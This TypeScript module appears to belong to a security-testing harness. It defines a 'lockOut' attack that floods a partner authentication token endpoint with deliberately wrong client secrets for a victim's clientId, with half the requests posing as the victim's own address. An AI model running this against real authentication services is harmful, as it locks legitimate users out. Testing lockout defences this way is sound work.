import { ask, post } from '../gang/requests.ts'
import { type Attack, anyAddress } from '../gang/round.ts'

const CLIENTS = 20
const GAP_MS = 100
/** The victim's own address: behind one NAT, the attacker may have it too. */
const VICTIM_ADDRESS = '127.0.0.1'

export const lockOut: Attack = (target, round) => {
  const { clientId } = target.victim
  return ask(round, target.http, {
    ...{ clients: CLIENTS, gapMs: GAP_MS },
    from: (client) => (client % 2 === 0 ? VICTIM_ADDRESS : anyAddress(client)),
    request: () =>
      post(
        '/api/v1/partner/auth/token',
        JSON.stringify({ clientId, clientSecret: `sk_wrong_${round.random()}` }),
      ),
  })
}
